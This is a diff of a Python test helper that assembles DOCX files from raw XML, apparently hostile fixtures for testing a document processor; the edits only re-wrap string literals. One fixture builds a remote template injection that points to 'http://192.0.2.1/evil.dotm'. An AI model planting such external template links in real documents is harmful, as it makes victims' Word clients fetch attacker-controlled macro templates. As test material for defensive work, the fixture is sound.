@@ -12,13 +12,18 @@ from tests.fakes.hostile.model import WORDS, HostileFile, hostile
 
 _W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 _TYPES = (
-    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels"'
-    ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml"'
+    '<?xml version="1.0"?><Types'
+    ' xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default'
+    ' Extension="rels"'
+    ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override'
+    ' PartName="/word/document.xml"'
     ' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
 )
 _RELATIONSHIPS = (
-    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
-    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
+    '<?xml version="1.0"?><Relationships'
+    ' xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
+    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
+    ' Target="word/document.xml"/>'
     "</Relationships>"
 )
 _PARAGRAPH = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"
@@ -35,7 +40,10 @@ def archive(parts: Mapping[str, str | bytes]) -> bytes:
 
 def word(body: str, *, prolog: str = "", more: Mapping[str, str | bytes] | None = None) -> bytes:
     """Return a DOCX of our own body; `more` adds parts."""
-    text = f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
+    text = (
+        f'<?xml version="1.0"?>{prolog}<w:document'
+        f' xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
+    )
     parts = {
         "[Content_Types].xml": _TYPES,
         "_rels/.rels": _RELATIONSHIPS,
@@ -92,7 +100,8 @@ def _table(rows: int, columns: int) -> bytes:
 
 def _remote_template() -> bytes:
     link = (
-        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
+        '<?xml version="1.0"?><Relationships'
+        ' xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
         ' Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
         ' Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
     )
